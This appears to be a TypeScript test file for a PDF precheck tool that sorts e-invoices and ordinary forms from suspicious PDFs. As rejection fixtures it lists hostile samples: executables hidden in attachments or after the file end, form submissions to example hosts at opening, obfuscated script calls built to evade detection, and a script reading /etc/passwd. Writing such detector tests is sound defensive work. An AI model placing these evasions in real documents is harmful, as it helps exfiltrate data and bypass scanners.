import { expect, test } from 'vitest';
import { withPdf } from '../../../main/precheck/decoders/pdfium-pages.ts';
import { cleanCopyOf } from '../../../main/precheck/worker/pdf-clean-copy.ts';
import { PDFS, stream, TAILS } from '../../support/carrying-files.ts';
import {
  atDocument,
  formPdf,
  INVOICE_DATA,
  script,
  withAttached,
  withXfa,
} from '../../support/usual-pdfs.ts';

const { cii, ubl } = INVOICE_DATA;
const usualOf = (file: Uint8Array) => withPdf(file, async (pages) => pages.carried().usual ?? null);

test.each(Object.entries(INVOICE_DATA))('data of an e-invoice in %s', async (_name, data) => {
  const file = withAttached(data);
  expect(await usualOf(file)).toBe('invoice');
  expect(await cleanCopyOf(file)).not.toBeNull();
});

const NO_INVOICES: Readonly<Record<string, Buffer>> = {
  'a program under an invoice’s name': withAttached('MZ\x90\0'),
  'other XML': withAttached('<svg xmlns="http://www.w3.org/2000/svg"/>'),
  'an invoice’s element without its namespace': withAttached(ubl.replace(/ xmlns="[^"]*"/, '')),
  'an invoice with a style sheet': withAttached(`<?xml-stylesheet href="a.xsl"?>${ubl}`),
  'an invoice that expands': withAttached(`<!DOCTYPE Invoice [<!ENTITY a "b">]>${ubl}`),
  'an invoice with a file packed in it': withAttached(
    ubl.replace('<ID>', '<EmbeddedDocumentBinaryObject>TVo=</EmbeddedDocumentBinaryObject><ID>'),
  ),
  'an invoice with something behind it': withAttached(`${cii}<a/>`),
  'an invoice and another file': withAttached(cii, 'hello'),
  'an invoice in a file with a program': Buffer.concat([
    withAttached(cii),
    TAILS['Windows program']?.[0] ?? Buffer.of(),
    Buffer.from('\n%%EOF\n'),
  ]),
};

test.each(Object.entries(NO_INVOICES))('no e-invoice: %s', async (_name, file) => {
  expect(await usualOf(file)).toBeNull();
});

const SUMS = `
  // Adds up; "amount" is a field's name.
  var names = new Array("amount", 'tax'), total = 0;
  function valueOfField(name) { return Number(this.getField(name).value) / 1; }
  for (var i = 0; i < names.length; i++) { total += valueOfField(names[i]); }
  if (total > 100 && !/^a"b$/.test(String(total))) app.alert("Please call us: submitForm is not here", 3);
  event.value = util.printf("%,.2f", total);`;

const send = (to: string) => `<< /S /SubmitForm /F << /FS /URL /F (${to}) >> >>`;

const FORMS: Readonly<Record<string, Buffer>> = {
  'scripts in a field': formPdf({
    field: `/AA << /C ${script(SUMS)} /K ${script('AFNumber_Keystroke(2)')} >>`,
  }),
  'scripts of the document': formPdf({ catalog: atDocument(SUMS) }),
  'a script before printing': formPdf({
    catalog: `/AA << /WP ${script('this.getField("amount").fillColor = color.white;')} >>`,
  }),
  'a button that opens one address': formPdf({
    field: `/A ${script('app.launchURL("https://tax.example/help", true);')}`,
  }),
  'a button that sends it': formPdf({ field: `/A ${send('http://tax.example/send')}` }),
  'a button that mails it, and sums': formPdf({
    field: `/AA << /U ${send('mailto:tax@tax.example')} /C ${script(SUMS)} >>`,
  }),
  'a form once more as XFA': withXfa(
    '<script contentType="application/x-javascript">this.rawValue = 1;</script>',
  ),
};

test.each(Object.entries(FORMS))('a form: %s', async (_name, file) => {
  expect(await usualOf(file)).toBe('form');
  expect(await cleanCopyOf(file)).not.toBeNull();
});

const HARMLESS = 'app.alert("hello");';
const NO_FORMS: Readonly<Record<string, Buffer>> = {
  'at opening': formPdf({ catalog: `/OpenAction ${script(HARMLESS)}` }),
  'of a page': formPdf({ page: `/AA << /O ${script(HARMLESS)} >>` }),
  'of a field whose page opens': formPdf({ field: `/AA << /PO ${script(HARMLESS)} >>` }),
  'of a link': formPdf({
    page: `/Annots [6 0 R << /Subtype /Link /T (a) /FT /Tx /Rect [0 0 9 9] /A ${script(HARMLESS)} >>]`,
  }),
  'an address at opening': formPdf({
    catalog: atDocument('app.launchURL("https://tax.example/");'),
  }),
  'sent at opening': formPdf({ catalog: `/OpenAction ${send('https://a.example')}` }),
  'sent with a button, and when a page opens': formPdf({
    field: '/A 7 0 R',
    page: '/AA << /O 7 0 R >>',
    objects: [send('https://a.example')],
  }),
  'sent with each key': formPdf({ field: `/AA << /K ${send('https://a.example')} >>` }),
  'sent to another computer’s files': formPdf({ field: `/A ${send('//a.example/b')}` }),
  'sent nowhere that is named': formPdf({ field: '/A << /S /SubmitForm >>' }),
  'XFA of which a reader draws the pages': formPdf({
    form: '/XFA 7 0 R',
    catalog: '/NeedsRendering true',
    objects: [stream('', '<template/>')],
  }),
  'XFA that sends': withXfa('<submit target="http://a.example"/>'),
  'XFA with a script that reaches out': withXfa(
    '<script>xfa.host.gotoURL("http://a.example")</script>',
  ),
  'XFA with a name put together': withXfa('<script>xfa.host["goto" + "URL"]("a")</script>'),
};

test.each(Object.entries(NO_FORMS))('no form that is known: %s', async (_name, file) => {
  expect(await usualOf(file)).toBeNull();
});

const REACHING = [
  'app.launchURL("https://tax.example/" + this.getField("amount").value);',
  'this.submitForm("http://a.example");',
  'var f = this.submitForm; f("http://a.example");',
  'this["sub" + "mitForm"]("http://a.example");',
  'var k = "eval"; var f = this[k]; f("1");',
  'var names = [1]; names = this; names["x" + 1];',
  'var a = [1]; this[a[0]];',
  'function f(alert) { alert("a"); } f(this.exportAsText);',
  'function f() {} f = app.newThing; f();',
  'alert = app.newThing; alert();',
  '[].sort.constructor("1")();',
  'ev\\u0061l("1");',
  'return /"/; this.submitForm("http://a.example"); "/"',
  '<!-- /*\nthis.submitForm("a");\n<!-- */',
  '// \xe2\x80\xa8this.submitForm("a");',
  '\xff\xfet\0h\0i\0s\0.\0s\0u\0b\0m\0i\0t\0F\0o\0r\0m\0(\0)\0',
  'app.setTimeOut("1", 1);',
  'util.readFileIntoStream("/etc/passwd");',
  'SOAP.request({});',
  'newDoc();',
  'x'.repeat(200_001),
];

test.each(REACHING)('no script of a form: %.60s', async (text) => {
  expect(await usualOf(formPdf({ catalog: atDocument(text) }))).toBeNull();
});

test('scripts and fields belong together: without a field it is no form', async () => {
  for (const name of ['script of the document', 'XFA form', 'attached file']) {
    expect(await usualOf(PDFS[name]?.[0] ?? Buffer.of())).toBeNull();
  }
});
